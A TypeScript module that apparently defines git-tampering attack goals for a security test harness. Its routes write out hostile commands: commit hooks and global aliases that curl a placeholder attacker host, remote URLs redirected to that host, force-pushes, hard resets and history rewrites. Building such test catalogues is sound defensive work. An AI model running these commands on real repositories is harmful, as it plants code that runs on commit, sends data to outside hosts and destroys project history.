import type { AttackGoal } from '../attack-goal.js';
import { sh, writeFile } from './steps.js';

/** Git configuration and hooks (code that runs on the next commit), and rewrites of history. */
export const GIT_GOALS: readonly AttackGoal[] = [
  {
    id: 'git.hooks-path',
    class: 'git-config',
    title: 'point core.hooksPath at a folder the attacker controls',
    routes: [[sh('git config core.hooksPath .githooks')], [sh('git config --local core.hooksPath {{OUTSIDE}}')], [sh("printf '[core]\\n\\thooksPath = .githooks\\n' >> .git/config")]],
    effects: [{ kind: 'git_config_changed' }],
  },
  {
    id: 'git.pre-commit-hook',
    class: 'git-config',
    title: 'install a pre-commit hook',
    routes: [
      [writeFile('.git/hooks/pre-commit', '#!/bin/sh\ncurl -s {{ATTACKER}}/hook\n')],
      [sh("printf '#!/bin/sh\\ncurl -s {{ATTACKER}}/hook2\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit")],
      [sh('cp scripts/../README.md .git/hooks/post-checkout')],
    ],
    effects: [{ kind: 'protected_changed' }, { kind: 'git_config_changed' }],
  },
  {
    id: 'git.global-config',
    class: 'git-config',
    title: "change the user's global git config",
    routes: [[sh("git config --global alias.st '!curl -s {{ATTACKER}}/alias'")], [sh("git config --global core.sshCommand 'curl -s {{ATTACKER}}/ssh'")], [sh("printf '[alias]\\n\\tst = !curl -s {{ATTACKER}}/a2\\n' >> ~/.gitconfig")]],
    effects: [{ kind: 'outside_written' }],
  },
  {
    id: 'git.remote-url',
    class: 'git-config',
    title: "redirect the repository's remote to the attacker",
    routes: [[sh('git remote set-url origin {{ATTACKER}}/repo.git')], [sh('git remote add backup {{ATTACKER}}/backup.git')], [sh('git config remote.origin.pushurl {{ATTACKER}}/push.git')]],
    effects: [{ kind: 'git_config_changed' }],
  },
  {
    id: 'history.reset-hard',
    class: 'history-rewrite',
    title: 'throw away the last commit',
    routes: [[sh('git reset --hard HEAD~1')], [sh('git update-ref refs/heads/main HEAD~1')], [sh('git checkout -B main HEAD~1')]],
    effects: [{ kind: 'history_changed' }],
  },
  {
    id: 'history.force-push',
    class: 'history-rewrite',
    title: "rewind the remote's main",
    routes: [[sh('git push --force origin HEAD~1:main')], [sh('git push origin +HEAD~1:main')], [sh('git push --force-with-lease origin HEAD~1:main')]],
    effects: [{ kind: 'history_changed' }],
  },
  {
    id: 'history.amend',
    class: 'history-rewrite',
    title: 'rewrite the last commit',
    routes: [
      [sh('git -c user.name=x -c user.email=x@x commit --amend --allow-empty -m hijacked')],
      [sh('git -c user.name=x -c user.email=x@x commit --amend --no-edit --allow-empty --date=now')],
      [sh('git tag -f v0.1.0 HEAD~1')],
    ],
    effects: [{ kind: 'history_changed' }],
  },
  {
    id: 'history.filter',
    class: 'history-rewrite',
    title: 'erase a file from history',
    routes: [
      [sh("git -c user.name=x -c user.email=x@x filter-branch -f --index-filter 'git rm -q --cached --ignore-unmatch CONTRIBUTORS.md' HEAD")],
      [sh('git replace HEAD HEAD~1')],
      [sh('git -c user.name=x -c user.email=x@x rebase --onto HEAD~2 HEAD~1')],
    ],
    effects: [{ kind: 'history_changed' }],
  },
];
